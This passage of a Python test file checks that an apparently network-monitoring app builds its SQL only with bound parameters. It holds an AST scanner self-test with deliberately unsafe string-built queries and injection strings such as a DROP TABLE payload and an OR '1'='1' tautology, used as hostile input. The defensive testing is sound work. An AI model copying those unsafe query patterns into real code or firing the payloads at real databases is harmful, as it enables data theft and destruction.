    allowed = {(module, scope) for module, (scopes, _) in ASSEMBLED_SQL.items() for scope in scopes}
    unexpected = {f"{module} {scope}: {', '.join(how)}" for (module, scope), how in found.items()
                  if (module, scope) not in allowed}
    assert not unexpected, (
        "SQL text assembled from strings; bind the values (SQLAlchemy expressions, :name or %s parameters), "
        "or, for names of our own tables, add the place to ASSEMBLED_SQL with the reason:\n"
        + "\n".join(sorted(unexpected)))
    stale = allowed - set(found)
    assert not stale, f"ASSEMBLED_SQL lists places that assemble no SQL any more: {sorted(stale)}"


def test_modules_assembling_sql_cannot_read_the_request():
    for module in ASSEMBLED_SQL:
        for node in ast.walk(ast.parse((ROOT / module).read_text())):
            if isinstance(node, ast.Import):
                assert "flask" not in {alias.name for alias in node.names}, module
            if isinstance(node, ast.ImportFrom) and node.module == "flask":
                assert "request" not in {alias.name for alias in node.names}, module


def test_the_scan_sees_sql_built_from_a_value():
    source = (
        "def bad(name):\n"
        "    db.session.execute(text(f\"SELECT * FROM devices WHERE name = '{name}'\"))\n"
        "    cursor.execute(\"DELETE FROM users WHERE id = '%s'\" % name)\n"
        "    db.session.execute(text(\"SELECT 1 FROM devices WHERE \" + name))\n"
        "    db.session.execute(text(name))\n"
        "    db.session.execute(text(\"UPDATE users SET name = '{}'\".format(name)))\n"
    )
    visitor = SqlAssembly()
    visitor.visit(ast.parse(source))
    assert {line for _, line, _ in visitor.found} == {2, 3, 4, 5, 6}


@pytest.mark.parametrize("state", [
    RollupState(None), RollupState(datetime(2024, 5, 2, 11, tzinfo=UTC)),
    RollupState(datetime(2024, 5, 2, 11, tzinfo=UTC), (datetime(2024, 5, 1, 20, tzinfo=UTC),)),
], ids=["raw", "rollups", "rollups with a stale hour"])
def test_chart_statements_carry_values_only_as_parameters(state):
    """Interface names come from devices, ids and zones from requests: whatever they hold,
    the statement text of every chart is the same and the value travels bound."""
    hostile = "eth0'; DROP TABLE devices; --"
    window = Window(start=datetime(2024, 5, 1, tzinfo=UTC), end=datetime(2024, 5, 2, 12, tzinfo=UTC),
                    width=timedelta(hours=1), timezone="Europe/Rome")
    ids = (uuid.uuid4(), uuid.uuid4())
    plain = SeriesFilter(device_id=ids[0], ifname="eth0", ifnames=("eth0",), organization_ids=ids,
                         location_ids=ids, floorplan_ids=ids)
    tainted = SeriesFilter(device_id=ids[1], ifname=hostile, ifnames=(hostile, "x' OR '1'='1"),
                           organization_ids=ids, location_ids=ids, floorplan_ids=ids)
    for name, config in CHARTS.items():
        kind, fields = chart_series(config)
        # one series per interface of ``ifnames`` too, as a device's interface charts are read
        for per_interface in (False, True) if kind in PER_INTERFACE_KINDS else (False,):
            (plain_shape, _), (tainted_shape, params) = [
                series_shape(measurement=config.measurement, kind=kind, fields=fields, filters=filters,
                             window=window, state=state, per_interface=per_interface)
                for filters in (plain, tainted)]
            plain_sql, tainted_sql = sql_for(plain_shape), sql_for(tainted_shape)
            assert tainted_sql == plain_sql, name
            assert hostile not in tainted_sql and "DROP" not in tainted_sql, name
            assert params["ifname"] == hostile and hostile in params["ifnames"], name
